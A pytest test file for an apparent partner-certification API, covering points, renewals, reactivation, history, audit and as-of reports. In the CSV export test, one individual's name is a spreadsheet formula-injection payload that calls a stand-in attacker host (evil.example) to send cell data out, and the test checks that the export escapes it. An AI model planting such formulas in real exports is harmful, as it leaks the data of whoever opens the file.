"""A partner over HTTP: what its specializations show, who earned what, and what is decided about them."""

import csv
import json
from collections.abc import Mapping
from datetime import date, timedelta
from io import StringIO
from typing import Any

import ledger
import pytest
from ledger import table
from policy.partners import facts

from tests.functions.http import MAX, OPERATOR, PIA, TODAY, Answer, Client, signed_in
from tests.functions.partners import (
    APPROVED,
    DONE,
    EXPRESS,
    NORTHWIND,
    administrator,
    approve,
    do,
    do_enough,
    keep_individual,
    keep_partner,
    points,
)

pytestmark = pytest.mark.usefixtures("partner")
ANNIVERSARY = date(2021, 4, 1)
LOST_ON = date(2021, 4, 12)
BOTH = signed_in("pia@northwind.example", "partner-admin:northwind", "partner-admin:tailspin")


def version() -> int:
    return ledger.load_partner("northwind").version


def detail(on: date = TODAY, client: Client = PIA) -> Any:
    answer = client.get(EXPRESS, on=on)
    assert answer.status == 200
    return answer.body


def refused(answer: Answer) -> str:
    assert answer.status == 422
    return str(answer.body["rule"])


def readings(patch: pytest.MonkeyPatch) -> list[tuple[str, bool]]:
    """Which partitions are queried from now on, and whether consistently."""
    read: list[tuple[str, bool]] = []
    query = table.query

    def queried(condition: str, named: Mapping[str, Any], *arguments: Any, **options: Any) -> Any:
        read.append((named["pk"], options.get("ConsistentRead", False)))
        return query(condition, named, *arguments, **options)

    patch.setattr(table, "query", queried)
    return read


class TestPartners:
    def test_are_listed_with_what_they_hold(self) -> None:
        keep_partner("tailspin", name="Tailspin Toys")
        assert [(item["partner"], item["name"]) for item in BOTH.get("/partners").body["items"]] == [
            ("northwind", "Northwind"),
            ("tailspin", "Tailspin Toys"),
        ]
        northwind, tailspin = BOTH.get("/partners").body["items"]
        assert tailspin["specializations"] == []
        (line,) = northwind["specializations"]
        assert line == {
            "specialization": "express-networking",
            "type": "express",
            "status": "approved",
            "anniversary": "2021-04-01",
            "window": {"start": "2020-04-01", "end": "2021-04-01"},
            "points": 0,
            "required": 40,
            "indicator": "behind",
            "renewed": False,
            "lost_on": None,
            "mandatory_open": ["NET-SALES"],
            "blocked_by": ["points-short", "mandatory-item-missing"],
        }

    def test_are_as_of_the_day_whether_or_not_a_sweep_has_run(self) -> None:
        before = version()
        statuses = [
            MAX.get("/partners", on=day).body["items"][0]["specializations"][0]["status"]
            for day in (ANNIVERSARY, ANNIVERSARY + timedelta(days=1), LOST_ON - timedelta(days=1), LOST_ON)
        ]
        assert statuses == ["approved", "grace", "grace", "lost"]
        assert version() == before

    def test_say_whether_the_caller_may_change_something(self) -> None:
        assert MAX.get("/partners").body["items"][0]["administrator"] is False
        assert PIA.get("/partners").body["items"][0]["administrator"] is True

    def test_go_on_with_the_cursor(self) -> None:
        ids = [f"p{number}" for number in range(5)]
        for partner in ids:
            keep_partner(partner, "mia@example.com")
        mia = signed_in("mia@example.com", "account-manager")
        found, cursor, pages = [], "", 0
        while cursor is not None:
            body = mia.get(f"/partners?limit=2&cursor={cursor}").body
            assert len(body["items"]) <= 2
            found += [item["partner"] for item in body["items"]]
            cursor, pages = body["next_cursor"], pages + 1
        assert (found, pages) == (ids, 3)

    def test_go_on_for_the_same_caller_only(self) -> None:
        keep_partner("tailspin")
        cursor = BOTH.get("/partners?limit=1").body["next_cursor"]
        assert [item["partner"] for item in BOTH.get(f"/partners?cursor={cursor}").body["items"]] == ["tailspin"]
        for client, given in ((administrator("tailspin"), cursor), (BOTH, cursor[:-1]), (BOTH, "x")):
            answer = client.get(f"/partners?cursor={given}")
            assert (answer.status, answer.fields) == (400, ["cursor"])

    def test_are_read_once_each_and_the_program_once(self, monkeypatch: pytest.MonkeyPatch) -> None:
        for name in ("fabrikam", "tailspin"):
            keep_partner(name, "max@example.com")
        read = readings(monkeypatch)
        assert len(MAX.get("/partners").body["items"]) == 3
        assert sorted(pk for pk, _ in read if pk[:2] in ("P#", "L#")) == [
            "L#PROGRAM",
            "P#fabrikam",
            "P#northwind",
            "P#tailspin",
        ]

    @pytest.mark.parametrize("path", ["/partners", EXPRESS, f"{NORTHWIND}/activities", f"{NORTHWIND}/audit"])
    def test_are_read_consistently_by_whoever_may_write(self, path: str, monkeypatch: pytest.MonkeyPatch) -> None:
        read = readings(monkeypatch)
        for client, consistent in ((PIA, True), (MAX, False)):
            read.clear()
            assert client.get(path).status == 200
            assert [strongly for pk, strongly in read if pk == "P#northwind"] == [consistent]

    def test_that_no_operator_keeps_are_not_listed(self) -> None:
        client = signed_in("pia@northwind.example", "partner-admin:northwind", "partner-admin:nowhere")
        assert [item["partner"] for item in client.get("/partners").body["items"]] == ["northwind"]


class TestSpecializations:
    def test_are_all_on_offer_with_those_held_first(self) -> None:
        body = PIA.get(f"{NORTHWIND}/specializations").body
        assert (body["partner"], body["name"], body["as_of"]) == ("northwind", "Northwind", "2021-03-01")
        names = [line["specialization"] for line in body["specializations"]]
        assert names[0] == "express-networking"
        assert names[1:] == sorted(names[1:])
        assert {line["status"] for line in body["specializations"][1:]} == {None}

    def test_come_with_the_events_that_may_be_attended(self) -> None:
        assert OPERATOR.put("/admin/items/SUMMIT", {"minutes": 90, "event": True}).status == 201
        events = PIA.get(f"{NORTHWIND}/specializations").body["events"]
        assert events == [{"item": "CONFERENCE", "points": 20}, {"item": "SUMMIT", "points": 3}]

    def test_say_what_an_application_would_fail_today(self) -> None:
        assert [block["rule"] for block in detail()["application"]] == ["already-held"]

    def test_show_what_a_renewal_rests_on(self) -> None:
        keep_individual("bob")
        do("ann", "NET-LAB")
        body = detail()
        assert (body["partner"], body["specialization"], body["as_of"]) == (
            "northwind",
            "express-networking",
            "2021-03-01",
        )
        assert body["window"] == {"start": "2020-04-01", "end": "2021-04-01"}
        assert body["renewal"] == {"from": "2021-01-01", "through": "2021-04-11"}
        assert (body["points"], body["required"], body["points_missing"]) == (10, 40, 30)
        am, fe = body["roles"]
        assert am == {
            "role": "am",
            "asks": {"exams": ["700-501"], "badge": None, "certification": None},
            "individual": "ann",
            "name": "Ann",
            "associated": True,
            "qualifies": True,
            "candidates": ["ann"],
        }
        assert fe["asks"]["certification"] == "ccnp-enterprise"
        assert [block["rule"] for block in body["blocks"]] == body["blocked_by"]
        assert body["blocks"][0]["facts"] == {"points": 10, "required": 40}
        assert "30 more" in body["blocks"][0]["detail"]
        library = {line["item"]: line for line in body["library"]}
        assert library["NET-LAB"] == {
            "item": "NET-LAB",
            "points": 10,
            "mandatory": False,
            "taken": True,
            "event": False,
        }
        assert (library["NET-SALES"]["mandatory"], library["NET-SALES"]["taken"]) == (True, False)
        assert body["risk"]["pace"]["meets"] is False
        assert {line["role"] for line in body["risk"]["hangs_on_one"]} == {"am", "fe"}
        assert "renewal-window" in body["because"]

    def test_show_the_worth_of_items_that_operators_added(self) -> None:
        assert OPERATOR.put("/admin/items/NEW-LAB", {"points": 7, "event": True}).status == 201
        changed = {"library": ["NEW-LAB", "NET-SALES"], "mandatory": ["NET-SALES"]}
        assert OPERATOR.put("/admin/specializations/express-networking/library", changed).status == 200
        library = {line["item"]: (line["points"], line["event"]) for line in detail()["library"]}
        assert library == {"NEW-LAB": (7, True), "NET-SALES": (1, False)}

    def test_never_held_show_no_window(self) -> None:
        body = PIA.get(f"{NORTHWIND}/specializations/collaboration").body
        assert (body["status"], body["window"], body["renewal"], body["points_missing"]) == (None, None, None, None)
        assert body["blocked_by"] == ["not-held"]

    @pytest.mark.parametrize("name", ["nothing", "Express-Networking", "a b", "x" * 101])
    @pytest.mark.parametrize("rest", ["", "/points", "/history"])
    def test_that_are_not_on_offer_are_absent(self, name: str, rest: str) -> None:
        assert PIA.get(f"{NORTHWIND}/specializations/{name}{rest}").status == 404


class TestPoints:
    def test_are_told_by_individual_those_of_previous_employees_apart(self) -> None:
        keep_individual("bob")
        do("bob", "ENCOR")
        do("ann", "NET-LAB", DONE + timedelta(days=1))
        do("ann", "NET-NEWS", DONE + timedelta(days=2))
        do("ann", "SDWFND", DONE, mode="downloaded")
        do("ann", "CLCOR")
        assert PIA.send("DELETE", f"{NORTHWIND}/individuals/bob", on=DONE + timedelta(days=3)).status == 200
        body = points(MAX)
        assert body == {
            "partner": "northwind",
            "specialization": "express-networking",
            "as_of": "2021-03-01",
            "window": {"start": "2020-04-01", "end": "2021-04-01"},
            "points": 30,
            "required": 40,
            "current": [
                {"individual": "ann", "name": "Ann", "item": "NET-LAB", "completed_on": "2021-02-02", "points": 10},
                {"individual": "ann", "name": "Ann", "item": "NET-NEWS", "completed_on": "2021-02-03", "points": 0},
            ],
            "previous": [
                {"individual": "bob", "name": "Bob", "item": "ENCOR", "completed_on": "2021-02-01", "points": 20}
            ],
        }

    def test_of_what_was_never_held_are_none(self) -> None:
        body = PIA.get(f"{NORTHWIND}/specializations/collaboration/points").body
        assert (body["window"], body["points"], body["current"], body["previous"]) == (None, 0, [], [])

    def test_that_become_known_late_count_where_they_were_earned(self) -> None:
        do("ann", "NET-LAB", APPROVED, known=DONE)
        do("ann", "ENCOR", APPROVED + timedelta(days=1), known=DONE)
        assert [line["item"] for line in points()["current"]] == ["ENCOR"]

    def test_are_of_one_person_once_two_ids_are_merged(self) -> None:
        keep_individual("annie")
        do("annie", "NET-LAB")
        do("ann", "NET-LAB", DONE + timedelta(days=1))
        assert points()["points"] == 20
        assert OPERATOR.post("/admin/holders/annie/merge", {"into": "ann"}).status == 200
        body = points()
        assert (body["points"], [line["individual"] for line in body["current"]]) == (10, ["ann"])

    def test_come_as_a_file_to_whoever_asks_for_one(self) -> None:
        keep_individual("eve", name='=HYPERLINK("http://evil.example?x="&A1,"Ann")')
        keep_individual("bob", name="Bob; =1+1")
        for holder in ("ann", "bob", "eve"):
            do(holder, "NET-LAB")
        assert PIA.send("DELETE", f"{NORTHWIND}/individuals/bob", on=TODAY).status == 200
        answer = MAX.send("GET", f"{EXPRESS}/points", headers={"accept": "text/csv"})
        assert (answer.status, answer.headers["content-type"]) == (200, "text/csv; charset=utf-8")
        assert answer.headers["cache-control"] == "no-store"
        name = "points-northwind-express-networking-2021-03-01.csv"
        assert answer.headers["content-disposition"] == f'attachment; filename="{name}"'
        assert list(csv.reader(StringIO(answer.body, newline=""), strict=True)) == [
            ["individual", "name", "item", "completed_on", "points"],
            ["ann", "Ann", "NET-LAB", "2021-02-01", "10"],
            ["eve", '\'=HYPERLINK("http://evil.example?x="&A1,"Ann")', "NET-LAB", "2021-02-01", "10"],
            ["Previous employees", "", "", "", ""],
            ["bob", "Bob; '=1+1", "NET-LAB", "2021-02-01", "10"],
        ]

    def test_of_another_partner_come_as_a_problem_whatever_is_asked_for(self) -> None:
        answer = administrator("tailspin").send("GET", f"{EXPRESS}/points", headers={"accept": "text/csv"})
        assert (answer.status, answer.headers["content-type"]) == (404, "application/problem+json")


class TestHistory:
    def test_tells_what_was_decided_and_what_time_alone_did(self) -> None:
        def told(on: date) -> list[tuple[str, str, str]]:
            items = PIA.get(f"{EXPRESS}/history", on=on).body["items"]
            return [(item["day"], item["kind"], item["rule"]) for item in items]

        approved = ("2020-04-01", "specialization.approved", "first-approval")
        assert told(APPROVED) == [approved]
        lost = told(LOST_ON)
        assert (lost[0], lost[-1]) == (approved, ("2021-04-12", "specialization.lost", "lost"))
        kinds = [kind for _, kind, _ in lost]
        assert kinds.count("specialization.grace") == 1
        assert kinds.count("specialization.expiring") == 12

    def test_is_of_one_specialization(self) -> None:
        assert PIA.get(f"{NORTHWIND}/specializations/collaboration/history").body == {"items": []}


class TestApplication:
    def apply(self, name: str, on: date = TODAY, key: str | None = None) -> Answer:
        return PIA.post(f"{NORTHWIND}/applications", {"specialization": name}, on=on, key=key)

    def test_needs_the_core_alone(self) -> None:
        assert refused(self.apply("video-provider")) == "core-not-met"
        exam = {"exam": "700-531", "kind": "specialist", "passed_on": "2021-02-01"}
        assert OPERATOR.post("/admin/holders/ann/exams", exam).status == 201
        for role in ("am", "fe"):
            path = f"{NORTHWIND}/specializations/video-provider/roles/{role}"
            assert PIA.put(path, {"individual": "ann"}).status == 200
        answer = self.apply("video-provider")
        assert (answer.status, answer.body["status"], answer.body["required"]) == (201, "approved", None)
        assert answer.body == PIA.get(f"{NORTHWIND}/specializations/video-provider").body

    def test_for_what_is_held_is_refused(self) -> None:
        answer = self.apply("express-networking")
        assert refused(answer) == "already-held"
        assert answer.body["facts"] == {"approved_on": "2020-04-01"}

    def test_for_what_was_lost_is_refused_for_18_months(self) -> None:
        assert refused(self.apply("express-networking", on=date(2022, 10, 12))) == "eighteen-months"

    def test_for_what_is_not_on_offer_is_bad_input(self) -> None:
        answer = self.apply("nothing")
        assert (answer.status, answer.fields) == (400, ["specialization"])


class TestRenewal:
    def renew(self, on: date = TODAY, key: str | None = None, name: str = EXPRESS) -> Answer:
        return PIA.send("POST", f"{name}/renewals", on=on, headers={"idempotency-key": key} if key else {})

    def test_renews(self) -> None:
        do_enough("ann")
        answer = self.renew()
        assert (answer.status, answer.body["renewed"], answer.body["anniversary"]) == (201, True, "2021-04-01")
        assert answer.body["blocked_by"] == ["renewal-too-early"]
        after = detail(ANNIVERSARY + timedelta(days=1))
        assert (after["status"], after["points"], after["anniversary"]) == ("approved", 0, "2022-04-01")

    def test_is_refused_by_the_first_need_that_is_not_met(self) -> None:
        before = version()
        answer = self.renew()
        assert refused(answer) == "points-short"
        assert answer.body["facts"] == {"points": 0, "required": 40}
        do("ann", "ENCOR")
        do("ann", "SDWAN300")
        answer = self.renew()
        assert refused(answer) == "mandatory-item-missing"
        assert answer.body["facts"] == {"items": ["NET-SALES"]}
        do("ann", "NET-SALES")
        assert PIA.send("DELETE", f"{NORTHWIND}/individuals/ann").status == 200
        answer = self.renew()
        assert refused(answer) == "core-not-met"
        assert answer.body["facts"] == {"roles": ["am", "fe"]}
        # Only the leaving was recorded.
        assert version() == before + 1

    def test_is_refused_before_its_time_and_of_what_is_not_held_or_has_no_points(self) -> None:
        assert refused(self.renew(on=date(2020, 12, 31))) == "renewal-too-early"
        assert refused(self.renew(name=f"{NORTHWIND}/specializations/collaboration")) == "not-held"
        assert refused(self.renew(on=LOST_ON)) == "not-held"

    def test_sent_again_with_its_key_is_answered_as_it_was_then(self) -> None:
        do_enough("ann")
        first = self.renew(key="k")
        before = version()
        again = self.renew(key="k", on=TODAY + timedelta(days=7))
        assert (again.status, again.body, version()) == (201, first.body, before)
        assert refused(self.renew(key="other")) == "renewal-too-early"

    def test_that_was_refused_is_decided_anew_with_the_same_key(self) -> None:
        assert refused(self.renew(key="k")) == "points-short"
        do_enough("ann")
        assert self.renew(key="k").status == 201

    def test_s_key_is_not_for_another_specialization(self) -> None:
        do_enough("ann")
        assert self.renew(key="k").status == 201
        answer = self.renew(key="k", name=f"{NORTHWIND}/specializations/collaboration")
        assert refused(answer) == "idempotency-key-reused"

    def test_of_what_is_not_on_offer_is_absent(self) -> None:
        assert self.renew(name=f"{NORTHWIND}/specializations/nothing").status == 404


class TestReactivation:
    def reactivate(self, on: date) -> Answer:
        return PIA.send("POST", f"{EXPRESS}/reactivations", on=on)

    def test_regains_what_was_lost_with_kept_and_new_points(self) -> None:
        do("ann", "ENCOR")
        do("ann", "NET-SALES")
        assert refused(self.reactivate(LOST_ON)) == "points-short"
        do("ann", "SDWAN300", date(2021, 5, 1))
        answer = self.reactivate(date(2021, 5, 2))
        assert (answer.status, answer.body["status"], answer.body["anniversary"]) == (201, "approved", "2022-05-02")
        assert answer.body["points"] == 0

    def test_of_what_is_not_lost_is_refused(self) -> None:
        assert refused(self.reactivate(TODAY)) == "not-lost"


def test_what_becomes_known_of_an_individual_is_there_at_the_next_reading() -> None:
    """No commit of the partner and no sweep in between."""
    before = version()
    do_enough("ann")
    assert points()["points"] == 41
    assert version() == before


def test_one_attendance_counts_in_both_programs_and_for_each_partner() -> None:
    keep_partner("tailspin")
    approve("tailspin")
    do("ann", "NET-LAB")
    there = administrator("tailspin").get("/partners/tailspin/specializations/express-networking").body
    assert (points()["points"], there["points"]) == (10, 10)


def test_the_whole_story_of_a_year() -> None:
    """Approved, short at the anniversary, met in grace, and renewed by the program itself."""
    do("ann", "ENCOR")
    do("ann", "NET-SALES")
    grace = ANNIVERSARY + timedelta(days=4)
    assert detail(grace)["status"] == "grace"
    ledger.record("ann", [facts.ActivityRecorded("ann", "SDWAN300", grace, "completed")], grace)
    assert detail(grace)["points"] == 41
    after = detail(LOST_ON)
    assert (after["status"], after["points"], after["anniversary"]) == ("approved", 0, "2022-04-01")
    last = PIA.get(f"{EXPRESS}/history", on=LOST_ON).body["items"][-1]
    assert (last["kind"], last["rule"]) == ("specialization.renewed", "renewal-at-the-end-of-grace")


class TestAudit:
    def items(self, client: Client = PIA) -> Any:
        return client.get(f"{NORTHWIND}/audit").body["items"]

    def test_tells_what_was_done_and_decided_by_whom_with_rules(self) -> None:
        do_enough("ann")
        ledger.settle_partner("northwind", TODAY)
        PIA.post(f"{EXPRESS}/renewals", None, on=TODAY)
        last = self.items(MAX)[-1]
        assert last["facts"] == [
            {"event": "renewal_submitted", "partner": "northwind", "specialization": "express-networking"}
        ]
        assert (last["day"], last["rules"]) == (str(TODAY), ["renewal-needs"])
        assert [decision["kind"] for decision in last["decisions"]] == ["specialization.renewed"]
        renewal = "POST /partners/{partner}/specializations/{specialization}/renewals"
        assert last["cause"].startswith(f"{renewal} by pia@northwind.example, request ")

    def test_tells_what_time_decided(self) -> None:
        ledger.settle_partner("northwind", LOST_ON)
        last = self.items()[-1]
        assert (last["facts"], last["cause"]) == ([], "sweep")
        assert last["decisions"][-1]["kind"] == "specialization.lost"
        assert {"lost", "points-short"} <= set(last["rules"])

    def test_tells_nothing_of_what_individuals_did_elsewhere(self) -> None:
        """Not even those whom the partner associates: what they learnt and passed before is theirs."""
        ledger.settle_partner("northwind", TODAY)
        before = self.items()
        ledger.record("ann", [facts.ExamPassed("ann", "700-999", TODAY)], TODAY)
        ledger.settle_partner("northwind", TODAY)
        assert ledger.load_partner("northwind").entries[-1].news
        assert self.items() == before
        assert "700-999" not in json.dumps(before)


class TestAsOf:
    def test_shows_the_report_of_a_year_that_has_ended(self) -> None:
        do_enough("ann")
        assert PIA.post(f"{EXPRESS}/renewals", None, on=TODAY).status == 201
        later = date(2021, 6, 1)
        do("ann", "NET-LAB", later)
        now = PIA.get(f"{EXPRESS}/points", on=later).body
        then = PIA.get(f"{EXPRESS}/points?as_of=2021-04-01", on=later).body
        assert ([line["item"] for line in now["current"]], now["window"]["start"]) == (["NET-LAB"], "2021-04-01")
        assert (then["as_of"], then["points"], then["window"]["end"]) == ("2021-04-01", 41, "2021-04-01")

    def test_shows_what_time_alone_will_do(self) -> None:
        shown = PIA.get(f"{EXPRESS}?as_of={LOST_ON}").body
        assert (shown["status"], shown["as_of"]) == ("lost", str(LOST_ON))
        assert detail()["status"] == "approved"

    def test_of_every_day_is_what_was_shown_on_it(self) -> None:
        days = [TODAY + timedelta(days=number) for number in range(0, 60, 6)]
        published = []
        for number, day in enumerate(days):
            do("ann", "NET-LAB" if number % 2 else "ENCOR", day)
            if number % 3 == 0:
                ledger.settle_partner("northwind", day)
            published.append(detail(day))
        assert [PIA.get(f"{EXPRESS}?as_of={day}", on=days[-1]).body for day in days] == published

    @pytest.mark.parametrize(
        ("path", "fields"),
        [
            (f"{EXPRESS}/points?as_of=soon", ["as_of"]),
            (f"{EXPRESS}?year=2020", ["year"]),
            (f"{EXPRESS}/history?as_of=2021-01-01", ["as_of"]),
            (f"{NORTHWIND}/individuals?limit=3", ["limit"]),
        ],
    )
    def test_that_cannot_be_answered_is_bad_input(self, path: str, fields: list[str]) -> None:
        answer = PIA.get(path)
        assert (answer.status, answer.fields) == (400, fields)
